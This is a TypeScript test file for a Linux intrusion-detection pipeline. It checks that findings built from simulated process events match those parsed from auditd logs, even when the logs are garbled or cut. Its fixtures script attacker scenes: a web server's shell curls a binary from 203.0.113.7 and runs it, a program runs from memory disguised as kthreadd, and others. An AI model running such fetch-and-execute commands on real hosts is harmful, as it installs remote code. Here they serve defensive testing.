import { type ActedEvent, blockOf, type Finding } from "@limpid/core";
import type { Pipeline } from "@limpid/pipeline";
import { sourceNamed } from "@limpid/telemetry";
import { describe, expect, it, test } from "vitest";
import { Scene } from "../packages/detect/src/testing/scene.ts";
import { auditLog } from "./support/audit-log.ts";
import { barePipeline } from "./support/pipeline.ts";

/** Stories of files: what happened, told once, judged as events and as the log that auditd would have written. */
const STORIES: Readonly<Record<string, (scene: Scene) => void>> = {
  "a web server's shell downloads and runs": (scene) => {
    const server = scene.process({ image: "/usr/sbin/nginx" });
    const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", "curl -o /tmp/.x/agent http://203.0.113.7/a"]);
    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
    scene.wait(40);
    shell.fork().exec("/usr/bin/chmod", "chmod +x /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
    shell.fork().exec("/tmp/.x/agent").exit();
  },
  "dash starts cat behind a redirection; the fork's record comes late": (scene) => {
    const server = scene.process({ image: "/usr/sbin/apache2" });
    const shell = server.fork().exec("/usr/bin/dash", "sh /srv/cgi/up.sh");
    shell.create("/tmp/.lock");
    shell.vfork().exec("/usr/bin/cat", "cat /tmp/in").exit();
    scene.wait(12);
    shell.vfork().exec("/usr/bin/chmod", "chmod +x /tmp/.lock").chmod("/tmp/.lock").exit();
    shell.vfork().exec("/tmp/.lock").exit();
    shell.vfork().exec("/usr/bin/rm", "rm -f /tmp/.lock").unlink("/tmp/.lock").exit();
  },
  "an unnamed file is given a name": (scene) => {
    const python = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/python3.11", "python3 -m x");
    python.createUnnamed("/dev/shm").place("/dev/shm/.a b");
    python.chmod("/dev/shm/.a b");
    python.fork().exec("/dev/shm/.a b").exit();
  },
  "a program runs from memory under a kernel thread's name": (scene) => {
    const python = scene
      .process({ image: "/usr/sbin/nginx" })
      .fork()
      .exec("/usr/bin/python3.11", ["python3", "-c", "import os\nos.memfd_create('x')"]);
    python.memoryFile();
    python.exec("/memfd:x (deleted)", ["kthreadd"]).exit();
  },
  "a file replaces another by rename, and its inode is used again": (scene) => {
    const shell = scene.process({ image: "/usr/sbin/sshd" }).fork().exec("/usr/bin/bash", "bash");
    shell.create("/var/tmp/one").chmod("/var/tmp/one");
    shell.create("/var/tmp/two").chmod("/var/tmp/two");
    shell.rename("/var/tmp/two", "/var/tmp/one");
    shell.create("/var/tmp/three").chmod("/var/tmp/three");
    shell.fork().exec("/var/tmp/one").exit();
    shell.fork().exec("/var/tmp/three").exit();
  },
  "a person builds at home": (scene) => {
    const make = scene.person().fork().exec("/usr/bin/make", "make");
    const ld = make
      .fork()
      .exec("/usr/bin/gcc", "gcc -s -o hello hello.c")
      .fork()
      .exec("/usr/bin/ld", "ld -s -o hello hello.o");
    ld.create("/home/dev/hello").chmod("/home/dev/hello").exit();
    scene.wait(300);
    scene.person().fork().exec("/home/dev/hello", "./hello").exit();
  },
  "names and arguments with blanks, quotes and stray bytes": (scene) => {
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/bash", ["bash", "-c", 'x="1"; ü']);
    shell
      .fork()
      .exec("/usr/bin/wget", ["wget", "-O", "/tmp/\udcff\u001b[31m\"'x", "http://h/"])
      .create("/tmp/\udcff\u001b[31m\"'x")
      .chmod("/tmp/\udcff\u001b[31m\"'x");
    shell.fork().exec("/tmp/\udcff\u001b[31m\"'x").exit();
  },
  "strip works in place": (scene) => {
    scene.existing("/opt/app/bin");
    const strip = scene
      .process({ image: "/usr/sbin/cron" })
      .fork()
      .exec("/usr/bin/dash", "sh -c strip")
      .fork()
      .exec("/usr/bin/strip", "strip -s /opt/app/bin");
    strip.open("/opt/app/bin").fchmod("/opt/app/bin").exit();
    scene.wait(60_000).process({ image: "/usr/sbin/cron" }).fork().exec("/opt/app/bin").exit();
  },
};

function judge(feed: (pipeline: Pipeline) => void): readonly Finding[] {
  const findings: Finding[] = [];
  const pipeline = barePipeline((finding) => findings.push(finding));
  feed(pipeline);
  pipeline.end();
  return findings.sort((one, other) =>
    one.firstSeen + one.artifact.path < other.firstSeen + other.artifact.path ? -1 : 1,
  );
}

const ofEvents = (events: readonly ActedEvent[]) => judge((pipeline) => events.forEach(pipeline.observe));
const ofLog = (log: string) =>
  judge((pipeline) => {
    const session = sourceNamed("auditd")?.open({ host: "host" }, pipeline.observe);
    session?.push(blockOf(log));
    session?.end();
  });

/** What an analyst decides by; process keys hold event ids, whose digits the story does not fix. */
const essence = (findings: readonly Finding[]) =>
  findings.map(({ priority, score, title, artifact, creator, lineage, supporting, contradicting, executions }) => ({
    priority,
    score,
    title,
    path: artifact.path,
    creator: [creator.basis, creator.image, creator.role, creator.argv],
    lineage: lineage.map(({ image, role, argv }) => [image, role, argv]),
    reasons: [...supporting, ...contradicting].map(({ id, weight, explanation }) => [id, weight, explanation]),
    executions: executions.map(({ at, argv }) => [at, argv]),
  }));

function tell(story: (scene: Scene) => void): readonly ActedEvent[] {
  const scene = new Scene();
  story(scene);
  return scene.events;
}

describe.each(Object.entries(STORIES))("%s", (_name, story) => {
  const events = tell(story);
  const log = auditLog(events);
  const expected = essence(ofEvents(events));

  it("gives findings, the same from events and from a log", () => {
    expect(expected.length).toBeGreaterThan(0);
    expect(essence(ofLog(log))).toEqual(expected);
  });

  test.each([
    { name: "lines of neighbouring events interleaved", change: interleave },
    { name: "neighbouring events swapped", change: swapNeighbours },
    { name: "each line twice", change: (text: string) => text.replace(/[^\n]+\n/g, "$&$&") },
    {
      name: "through syslog",
      change: (text: string) =>
        text.replace(/^/gm, "Nov 22 06:00:00 host audispd: ").replace(/Nov[^\n]+audispd: $/, ""),
    },
    { name: "no PROCTITLE and no EOE", change: (text: string) => text.replace(/^type=PROCTITLE.*\n/gm, "") },
    { name: "Windows line ends", change: (text: string) => text.replace(/\n/g, "\r\n") },
  ])("survives: $name", ({ change }) => {
    expect(essence(ofLog(change(log)))).toEqual(expected);
  });

  it("survives any cut, and then says nothing that the whole log does not support", () => {
    const paths = new Set(ofEvents(events).flatMap(({ artifact }) => [artifact.path, ...artifact.previousPaths]));
    for (let cut = 0; cut < log.length; cut += 97) {
      for (const finding of ofLog(log.slice(0, cut))) expect([...paths, null]).toContain(finding.artifact.path);
    }
  });
});

/** The records of two events that follow each other, one line of each in turn. */
function interleave(log: string): string {
  const events = eventsOf(log);
  const out: string[] = [];
  for (let index = 0; index < events.length; index += 2) {
    const [one = [], other = []] = [events[index], events[index + 1]];
    for (let line = 0; line < Math.max(one.length, other.length); line++)
      out.push(...[one[line], other[line]].filter((text) => text !== undefined));
  }
  return `${out.join("\n")}\n`;
}

function swapNeighbours(log: string): string {
  const events = eventsOf(log);
  for (let index = 1; index + 1 < events.length; index += 2) {
    const [one = [], other = []] = [events[index], events[index + 1]];
    events[index] = other;
    events[index + 1] = one;
  }
  return `${events.flat().join("\n")}\n`;
}

function eventsOf(log: string): string[][] {
  const events = new Map<string, string[]>();
  for (const line of log.trimEnd().split("\n")) {
    const serial = /audit\(([^)]+)\)/.exec(line)?.[1] ?? "";
    events.set(serial, [...(events.get(serial) ?? []), line]);
  }
  return [...events.values()];
}
